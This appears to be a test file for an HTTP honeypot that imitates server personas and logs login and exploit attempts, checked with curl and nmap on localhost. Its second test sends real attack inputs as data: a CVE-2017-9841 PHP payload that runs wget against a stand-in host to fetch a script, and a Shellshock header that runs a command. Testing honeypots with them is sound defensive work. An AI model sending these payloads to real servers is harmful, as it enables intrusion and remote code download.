import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { describe, expect } from 'vitest';
import { needTools } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import type { Persona } from '../../core/persona.ts';
import { createPersona } from '../../personas/index.ts';
import { http } from './http.ts';

const run = promisify(execFile);
const machine = createPersona('ubuntu-web', 'a seed', { now: Date.UTC(2026, 0, 2) });
const withServer = (server: string): Persona => ({
  ...machine,
  http: { server, title: 'A site', products: ['phpunit'] },
});

async function curl(...words: string[]): Promise<string> {
  const { stdout } = await run('curl', ['-s', '-m', '10', ...words]);
  return stdout;
}

describe('the http decoy before real clients', () => {
  needTools(['curl'])('answers curl as the persona’s server and records what it asked', async () => {
    await using served = await serveDecoy(http, withServer('nginx/1.18.0 (Ubuntu)'));
    const base = `http://127.0.0.1:${served.port}`;
    const missing = await curl('-i', `${base}/none`);
    const names = [...missing.matchAll(/^([\w-]+): /gm)].map((match) => match[1]);
    expect(missing).toMatch(/^HTTP\/1\.1 404 Not Found\r\nServer: nginx\/1\.18\.0 \(Ubuntu\)\r\n/);
    expect(names).toEqual(['Server', 'Date', 'Content-Type', 'Content-Length', 'Connection']);
    expect(await curl('-r', '0-8', `${base}/`)).toBe('<!DOCTYPE');
    expect(await curl('-I', `${base}/`)).toContain('Content-Length: ');
    await curl('-u', 'admin:secret', `${base}/login`);
    expect(served.facts).toContainEqual({
      kind: 'auth',
      service: 'http',
      user: 'admin',
      password: 'secret',
      method: 'password',
      accepted: false,
    });
    expect(served.errors).toEqual([]);
  });

  needTools(['curl'])('believes an exploit only of a product that it has, and records both', async () => {
    await using served = await serveDecoy(http, withServer('Apache/2.4.41 (Ubuntu)'));
    const base = `http://127.0.0.1:${served.port}`;
    const code = "<?php system('wget http://198.51.100.7/x.sh'); echo md5('x');?>";
    const believed = await curl('-d', code, `${base}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php`);
    expect(believed).toContain('9dd4e461268c8034f5c8564e155c67a6');
    const shellshock = ['-H', 'User-Agent: () { :; }; /usr/bin/id', `${base}/cgi-bin/status`];
    expect(await curl('-i', ...shellshock)).toMatch(/^HTTP\/1\.1 404 /);
    const exploits = served.facts.flatMap((fact) => (fact.kind === 'exploit' ? [fact.cves[0]] : []));
    expect(exploits).toEqual(['CVE-2017-9841', 'CVE-2014-6271']);
    const urls = served.facts.flatMap((fact) => (fact.kind === 'command' ? (fact.urls ?? []) : []));
    expect(urls).toContain('http://198.51.100.7/x.sh');
    expect(served.captures.map((capture) => capture.how)).toContain('http-body');
    expect(served.errors).toEqual([]);
  });

  needTools(['nmap'])(
    'is taken by nmap for the server that it claims to be',
    async () => {
      for (const [server, product] of [
        ['nginx/1.18.0 (Ubuntu)', 'nginx 1.18.0'],
        ['Boa/0.94.14rc21', 'Boa HTTPd 0.94.14rc21'],
      ] as const) {
        await using served = await serveDecoy(http, withServer(server));
        const words = ['-Pn', '-sV', '--script', 'http-title', '-p', String(served.port), '127.0.0.1'];
        const { stdout } = await run('nmap', words);
        expect(stdout).toContain(product);
        expect(stdout).toContain('http-title: A site');
        expect(served.errors).toEqual([]);
      }
    },
    120_000,
  );
});
